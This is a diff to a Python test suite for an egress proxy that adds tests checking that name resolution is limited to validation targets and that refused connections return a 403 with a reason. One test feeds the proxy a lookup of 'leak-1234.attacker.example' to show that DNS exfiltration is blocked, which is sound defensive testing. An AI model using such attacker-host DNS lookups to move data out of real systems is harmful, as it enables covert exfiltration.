@@ -126,10 +126,36 @@ class TestProxy(testtools.TestCase):
         answer = self.ask(b'RESOLVE undercloud.example TRIPLEOPLAN/1\r\n\r\n')
         self.assertTrue(answer.startswith('HTTP/1.1 200'), answer)
         self.assertTrue(answer.endswith('\r\n\r\n127.0.0.1\n'), answer)
-        self.names['nowhere.example'] = None
-        self.assertIn('404', self.ask(
-            b'RESOLVE nowhere.example TRIPLEOPLAN/1\r\n\r\n'))
         self.assertIn('400', self.ask(b'RESOLVE a/b TRIPLEOPLAN/1\r\n\r\n'))
+
+    def test_resolve_answers_only_the_names_of_the_targets(self):
+        # anything else would let data leave by DNS (a name of the
+        # playbook's choosing, asked of the undercloud's resolver)
+        asked = []
+        self.names['leak-1234.attacker.example'] = '127.0.0.1'
+        resolve = self.proxy.resolve
+        self.proxy.resolve = lambda host, *a, **k: (
+            asked.append(host), resolve(host, *a, **k))[1]
+        answer = self.ask(
+            b'RESOLVE leak-1234.attacker.example TRIPLEOPLAN/1\r\n\r\n')
+        self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)
+        self.assertIn('a validation resolves nothing else', answer)
+        self.assertEqual([], asked)
+        # the undercloud's own name is one (dns-resolution checks it)
+        self.names[socket.gethostname()] = '127.0.0.1'
+        self.assertIn('200', self.ask(('RESOLVE %s TRIPLEOPLAN/1\r\n\r\n'
+                                       % socket.gethostname()).encode()))
+
+    def test_a_refused_target_is_told_the_runners_reason(self):
+        proxy = egress.Proxy(
+            os.path.join(self.place, 'other.sock'), [],
+            refused={('127.0.0.1', self.other_port): 'not for plan p'})
+        self.addCleanup(proxy.close)
+        self.proxy = proxy
+        answer = self.ask(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n'
+                           % self.other_port).encode())
+        self.assertTrue(answer.startswith('HTTP/1.1 403'), answer)
+        self.assertIn('not for plan p', answer)
 
     def test_statfs_answers_for_a_mount_point_of_the_undercloud(self):
         import json
@@ -144,8 +170,10 @@ class TestProxy(testtools.TestCase):
         answer = self.ask(('STATFS %s TRIPLEOPLAN/1\r\n\r\n' % self.place
                            ).encode())
         self.assertTrue(answer.startswith('HTTP/1.1 404'), answer)
-        self.assertIn('%s is not a mount point of the undercloud'
+        self.assertIn('%s is not a mount point of the undercloud\n'
                       % self.place, answer)
+        # and the executor's mount points are not listed
+        self.assertNotIn('/proc', answer.partition('\r\n\r\n')[2])
 
     def test_mount_points_undo_the_kernels_escapes(self):
         table = os.path.join(self.place, 'mounts')
